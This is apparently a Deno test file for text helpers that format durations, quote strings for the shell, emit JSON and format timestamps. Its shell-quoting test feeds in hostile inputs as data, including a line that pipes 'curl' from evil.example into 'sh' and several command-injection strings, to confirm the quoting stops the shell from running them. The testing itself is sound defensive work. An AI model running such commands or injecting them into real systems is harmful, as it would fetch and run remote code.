import assert from "node:assert/strict";
import fc from "npm:fast-check@4.10.2";
import { formatDuration, isoInstant, jsonText, quotedForShell } from "../src/text.ts";
import { HOSTILE_TEXTS } from "./helpers/fixtures.ts";

Deno.test("formatDuration() shows the two largest units", () => {
  const table: [number, string][] = [
    [-1, "0 s"],
    [0, "0 s"],
    [999, "0 s"],
    [1_000, "1 s"],
    [59_999, "59 s"],
    [60_000, "1 min"],
    [61_000, "1 min 1 s"],
    [7_500_000, "2 h 5 min"],
    [7_200_000, "2 h"],
    [7_201_000, "2 h"],
    [90_000_000, "1 d 1 h"],
    [365 * 86_400_000, "365 d"],
  ];
  for (const [ms, expected] of table) assert.equal(formatDuration(ms), expected, String(ms));
});

Deno.test("quotedForShell() does not change plain names", () => {
  for (const name of ["oncall", "a_B-1", "/etc/ssh-session-notifier/token"]) assert.equal(quotedForShell(name), name);
});

Deno.test("quotedForShell() makes any text one word, and a shell runs none of it", async () => {
  const texts = [
    "old; curl -s evil.example|sh #",
    "",
    "'",
    "'; touch /tmp/x; '",
    "$(id)`id`",
    "~",
    "a\\'b",
    "a\nb",
    ...fc.sample(fc.string({ unit: "binary" }).filter((text) => !text.includes("\0")), 200),
  ].map((text) => text.toWellFormed());
  const script = `for word in ${texts.map(quotedForShell).join(" ")}; do printf '%s\\0' "$word"; done`;
  const { stdout } = await new Deno.Command("sh", { args: ["-c", script] }).output();
  assert.deepEqual(new TextDecoder("utf-8", { ignoreBOM: true }).decode(stdout).split("\0"), [...texts, ""]);
});

Deno.test("jsonText() parses to the same value, and contains no control characters", () => {
  const check = (text: string) => {
    for (const indent of [0, 2]) {
      const json = jsonText({ [text]: [text] }, { indent });
      assert.deepEqual(JSON.parse(json), { [text]: [text] });
      assert.doesNotMatch(json.replaceAll("\n", ""), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u);
      if (indent === 0) assert.ok(!json.includes("\n"));
    }
  };
  for (const text of [...HOSTILE_TEXTS, "\x9b2J", "\u{e0041}", "\ud800"]) check(text);
  fc.assert(fc.property(fc.string({ unit: "binary" }), check));
});

Deno.test("isoInstant() returns null for an invalid instant", () => {
  assert.equal(isoInstant(0), "1970-01-01T00:00:00.000Z");
  for (const atMs of [undefined, NaN, 9e15]) assert.equal(isoInstant(atMs), null);
});
